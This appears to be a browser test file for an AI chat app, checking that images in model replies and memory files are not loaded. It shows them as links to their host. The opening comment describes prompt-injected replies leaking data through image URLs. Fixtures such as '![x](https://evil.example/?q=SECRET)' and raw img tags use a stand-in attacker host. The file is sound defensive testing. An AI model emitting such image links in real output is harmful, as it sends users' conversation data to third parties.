// Images in model output and memory files are never loaded: an image's address can carry
// the conversation to whoever serves it (a prompt-injected reply only has to write
// ![x](https://evil.example/?q=SECRET)). They show as a link to their host instead, which
// the person may choose to open.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { axe, launchBrowser, shot, startStack, watchConsole } from "./harness.mjs";

let stack;
let browser;
let page;
let token;
let consoleErrors;
// Every request the browser made that left the Ally server, and what the fake third
// party was asked.
const offsite = [];
const thirdParty = [];

before(async () => {
  stack = await startStack({ fakeArgs: ["-ttft", "50ms", "-tps", "0", "-words", "30"] });
  token = await stack.signUp(`iris.${Date.now()}@example.com`);
  browser = await launchBrowser();
  const self = new URL(stack.url).host;
  browser.context.on("request", (r) => {
    const u = new URL(r.url());
    if ((u.protocol === "http:" || u.protocol === "https:") && u.host !== self) offsite.push(`${r.resourceType()} ${r.url()}`);
  });
  // The third party answers a page (what opening the link shows) and nothing else.
  await browser.context.route(/^https?:\/\/evil\.example\//, (route) => {
    const r = route.request();
    thirdParty.push({ url: r.url(), type: r.resourceType(), referer: r.headers()["referer"] ?? "" });
    if (r.resourceType() === "document") return route.fulfill({ status: 200, contentType: "text/html", body: "<p>elsewhere</p>" });
    return route.abort();
  });
  page = await browser.context.newPage();
  page.setDefaultTimeout(15_000);
  consoleErrors = watchConsole(page);
  await page.goto(stack.url + "/login");
  await page.evaluate((t) => localStorage.setItem("ally.token", t), token);
});

after(async () => {
  await browser?.close();
  await stack?.stop();
});

async function waitReplyDone() {
  await page.locator(".msg-assistant:last-child .msg-actions").waitFor({ timeout: 30_000 });
  await page.locator(".send-btn.stop").waitFor({ state: "detached", timeout: 30_000 });
}

/** checkTheme screenshots the page in both themes and runs axe on each. */
async function checkThemes(name) {
  for (const theme of ["light", "dark"]) {
    await page.evaluate((t) => localStorage.setItem("ally.theme", t), theme);
    await page.reload();
    await page.locator(".markdown a.md-image").first().waitFor();
    assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), theme);
    assert.deepEqual(await axe(page), [], `axe, ${theme} theme`);
    await shot(page, `${name}-${theme}`);
  }
  await page.evaluate(() => localStorage.removeItem("ally.theme"));
}

test("an image in a reply is not loaded: it shows as a link to its host", async () => {
  await page.goto(stack.url + "/");
  const box = page.getByLabel("Message", { exact: true });
  // The fake model echoes the message: the reply holds the images as markdown.
  await box.fill("See ![x](https://evil.example/?q=SECRET) [![logo](https://evil.example/logo.png)](https://example.org/) ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)");
  await box.press("Enter");
  await waitReplyDone();
  const reply = page.locator(".msg-assistant").last().locator(".markdown");
  assert.deepEqual(offsite, [], "no request left the Ally server");
  assert.deepEqual(thirdParty, []);

  const image = reply.locator("a.md-image");
  assert.equal(await image.count(), 1);
  assert.equal(await image.getAttribute("href"), "https://evil.example/?q=SECRET");
  assert.match(await image.innerText(), /x — evil\.example/);
  assert.equal(await image.getAttribute("target"), "_blank");
  assert.deepEqual((await image.getAttribute("rel")).split(" ").sort(), ["nofollow", "noopener", "noreferrer"]);
  // An image inside a link shows its alt text; the link says where it goes.
  const link = reply.locator('a[href="https://example.org/"]');
  assert.equal(await link.locator(".md-image").innerText(), "logo");
  // A data: image is not shown either, and is no link.
  const inert = reply.locator(".md-image-inert");
  assert.match(await inert.innerText(), /dot — not shown/);
  assert.equal(await inert.locator("a").count(), 0);

  assert.equal(await reply.locator("img, picture, source, video, audio, [src], [srcset]").count(), 0);

  await checkThemes("images-reply");
  assert.deepEqual(offsite, [], "no request left the Ally server after reloads");

  // Opened only when the person clicks, in a new tab that gets neither a handle on the app
  // nor the app's address.
  const [tab] = await Promise.all([browser.context.waitForEvent("page"), page.locator(".markdown a.md-image").last().click()]);
  await tab.waitForLoadState();
  assert.equal(tab.url(), "https://evil.example/?q=SECRET");
  assert.equal(await tab.evaluate(() => window.opener), null);
  assert.deepEqual(thirdParty, [{ url: "https://evil.example/?q=SECRET", type: "document", referer: "" }]);
  await tab.close();
  assert.deepEqual(consoleErrors, []);
});

test("an image in a memory file is not loaded: links, reference images and raw HTML too", async () => {
  offsite.length = 0;
  thirdParty.length = 0;
  const content = [
    "# Pictures",
    "",
    "![x](https://evil.example/?q=SECRET)",
    "",
    "![chart][ref]",
    "",
    '<img src="https://evil.example/raw.png" srcset="https://evil.example/2x.png 2x">',
    "",
    "![pixel](/favicon.svg)",
    "",
    "[ref]: https://evil.example/ref.png?q=SECRET",
    "",
  ].join("\n");
  const res = await fetch(stack.url + "/api/v1/memory/pictures.md", {
    method: "PUT",
    headers: { Authorization: "Bearer " + token, "Content-Type": "application/json" },
    body: JSON.stringify({ content }),
  });
  assert.ok(res.ok, `PUT memory: ${res.status}`);

  await page.goto(stack.url + "/settings/memory");
  await page.getByRole("button", { name: /pictures\.md/ }).click();
  const view = page.locator(".memory-content");
  await view.locator("h1").getByText("Pictures").waitFor();
  assert.deepEqual(offsite, [], "no request left the Ally server");
  assert.deepEqual(thirdParty, []);

  const images = view.locator("a.md-image");
  assert.deepEqual(await images.evaluateAll((as) => as.map((a) => [a.getAttribute("href"), a.innerText])), [
    ["https://evil.example/?q=SECRET", "x — evil.example"],
    ["https://evil.example/ref.png?q=SECRET", "chart — evil.example"],
  ]);
  // Raw HTML is shown as the text it is; a same-site image is not loaded either.
  assert.match(await view.innerText(), /<img src="https:\/\/evil\.example\/raw\.png"/);
  assert.match(await view.locator(".md-image-inert").innerText(), /pixel — not shown/);
  assert.equal(await view.locator("img, picture, source, [src], [srcset]").count(), 0);
  await shot(page, "images-memory");
  assert.deepEqual(consoleErrors, []);
});
